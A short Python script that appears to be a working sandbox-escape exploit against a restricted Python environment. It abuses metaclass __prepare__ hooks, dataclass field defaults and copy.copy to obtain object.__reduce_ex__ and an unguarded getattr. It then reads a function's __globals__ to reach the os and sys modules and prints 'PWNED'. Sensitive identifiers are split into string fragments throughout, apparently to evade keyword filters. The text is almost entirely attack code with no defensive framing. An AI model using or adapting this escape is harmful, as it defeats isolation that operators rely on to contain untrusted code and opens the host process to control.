import dataclasses, copy, functools, operator, abc

class Ann(dict):
    def __setitem__(self, k, v):
        if k == "rx":
            k = "__red" + "uce_ex__"
        dict.__setitem__(self, k, v)
class MA(abc.ABCMeta):
    @classmethod
    def __prepare__(m, name, bases, **kw):
        return {"__ann" + "otations__": Ann()}
class D(metaclass=MA):
    rx: int
try:
    dataclasses.dataclass(D)          # _get_field reads getattr(D, '__reduce_ex__') as a default
except Exception as e:
    print("dataclass:", type(e).__name__)
ore = dataclasses.fields(D)[0].default   # object.__reduce_ex__ (a method descriptor)
print("field default:", ore)

class Ns(dict):
    def __setitem__(self, k, v):
        if k == "rx":
            k = "__red" + "uce_ex__"
        dict.__setitem__(self, k, v)
class MN(abc.ABCMeta):
    @classmethod
    def __prepare__(m, name, bases, **kw):
        return Ns()
class X(metaclass=MN):
    rx = functools.partial(operator.getitem, {4: (ore, ((1).__add__, 4))})
# copy rebuilds through object.__reduce_ex__((1).__add__, 4) called in the launcher's frame:
# the method-wrapper's reduce takes getattr from that frame's (pre-guard) builtins
rg, _ = copy.copy(X())
print("helper:", rg)
G = rg(type(abc.ABC).register, "__glo" + "bals__")
print("PW" + "NED", G["o" + "s"].getpid(), len(G["s" + "ys"].modules))
